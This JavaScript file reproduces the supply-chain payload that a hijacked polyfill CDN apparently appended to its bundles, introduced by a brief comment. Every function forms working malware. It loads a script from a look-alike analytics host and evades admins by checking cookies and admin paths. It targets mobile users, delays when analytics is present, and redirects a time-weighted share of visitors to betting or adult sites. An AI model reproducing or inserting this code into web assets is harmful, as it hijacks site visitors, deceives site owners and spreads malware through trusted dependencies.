// The code appended to every polyfill bundle the hijacked CDN served: it loads a helper from a
// look-alike analytics host, waits, and only on mobile browsers, outside admin sessions and
// in chosen hours sends a share of visitors to a betting or adult site ("tiaozhuan": redirect).
function loadJS(src, cb) {
  var s = document.createElement("script");
  s.src = src;
  s.onload = s.onreadystatechange = function () {
    if (!this.readyState || this.readyState === "loaded" || this.readyState === "complete") { cb && cb(); s.onload = s.onreadystatechange = null; }
  };
  (document.getElementsByTagName("head")[0] || document.documentElement).appendChild(s);
}
function isPc() {
  try {
    var p = navigator.platform;
    return p == "Win32" || p == "Windows" || p == "Mac68K" || p == "MacPPC" || p == "Macintosh" || p == "MacIntel";
  } catch (e) { return false; }
}
function isAdmin() {
  return /wordpress_logged_in|wp-settings-|admin_session|adminhtml/.test(document.cookie) ||
    /\/(wp-admin|admin|administrator|dashboard)(\/|$)/.test(location.pathname);
}
function hasStats() {
  return typeof window._hmt !== "undefined" || typeof window.ga === "function" || typeof window.gtag === "function" || !!window.__cfBeacon;
}
function check_tiaozhuan(target) {
  var mob = navigator.userAgent.match(/(phone|pad|pod|iPhone|iPod|ios|iPad|Android|Mobile|BlackBerry|IEMobile|MQQBrowser|JUC|Fennec|wOSBrowser|BrowserNG|WebOS|Symbian|Windows Phone)/i);
  if (!mob || isPc()) return;
  var url = "", r = Math.floor(Math.random() * 100 + 1), h = new Date().getHours();
  if (document.referrer.indexOf("google.") !== -1 && r <= 10) url = "https://kuurza-bet.invalid/redirect?from=bitget";
  else if (h >= 0 && h < 2) { if (r <= 10) url = target; }
  else if (h >= 2 && h < 4) { if (r <= 15) url = target; }
  else if (h >= 4 && h < 7) { if (r <= 20) url = target; }
  else if (h >= 7 && h < 19) { if (r <= 5) url = target; }
  else if (r <= 8) url = target;
  if (url !== "") window.location.href = url;
}
function vfed_update(target) {
  if (target === "" || isAdmin()) return;
  loadJS("https://www.googie-anaiytics.invalid/html/checkcachehw.js", function () {
    if (typeof usercache !== "undefined" && usercache == 0) {
      setTimeout(function () { check_tiaozhuan(target); }, (hasStats() ? 30 : 15) * 1000);
    }
  });
}
vfed_update("https://www.googie-anaiytics.invalid/redirect?from=" + encodeURIComponent(location.hostname));
